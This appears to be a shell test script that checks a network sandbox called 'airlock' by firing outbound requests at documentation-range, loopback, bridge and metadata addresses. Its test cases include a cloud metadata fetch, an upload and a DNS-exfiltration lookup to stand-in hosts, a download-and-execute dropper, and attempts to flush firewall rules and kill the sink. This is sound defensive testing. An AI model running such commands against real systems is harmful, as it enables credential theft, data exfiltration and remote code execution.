#!/bin/sh
# Every attempt below must end at airlock's sink. Addresses are documentation ranges,
# the Docker bridge, loopback and the metadata service: nothing here is a real target.
P=47123
try() { printf '%s ' "$1"; curl -s -m 4 -o /dev/null -w '%{http_code}\n' "$2" || echo "failed $?"; }
try public     "http://203.0.113.7:$P/public"
try private    "http://10.20.30.40:$P/private"
try bridge     "http://172.17.0.1:$P/bridge"
try loopback   "http://127.0.0.1:$P/loopback"
try metadata   "http://169.254.169.254/latest/meta-data/"
printf 'ipv6 '; curl -s -m 4 -o /dev/null -w '%{http_code}\n' "http://[2001:db8::1]:$P/v6" || echo "failed $?"
try https-name "https://anything.example/x?q=1"
# node https.get and a python urllib POST, both through TLS
node -e "require('https').get('https://node-client.example/n', r => { console.log('node', r.statusCode); r.resume(); }).on('error', e => console.log('node error', e.message))"
python3 -c "
import urllib.request
r = urllib.request.urlopen(urllib.request.Request('https://py-client.example/upload', data=b'python-body-42', method='POST'), timeout=5)
print('python', r.status)"
# DNS exfiltration through hex labels
node -e "require('dns').resolve4('6578666c2d64617461.dns-exfil.example', (e, a) => console.log('dns', e ? e.code : a))"
# dropper: download, write, chmod, exec
curl -s -m 4 -o /tmp/stage2.sh https://dropper.example/stage2.sh && chmod +x /tmp/stage2.sh && /tmp/stage2.sh && echo dropper-ran
# the package user cannot change the rules or see the sink
iptables -t nat -F 2>/dev/null && echo "iptables FLUSHED" || echo "iptables refused"
ip route del default 2>/dev/null && echo "route DELETED" || echo "route refused"
pkill -f 'airlock sink' 2>/dev/null && echo "sink KILLED" || echo "sink not visible"
try after "http://203.0.113.8:$P/after"
exit 0
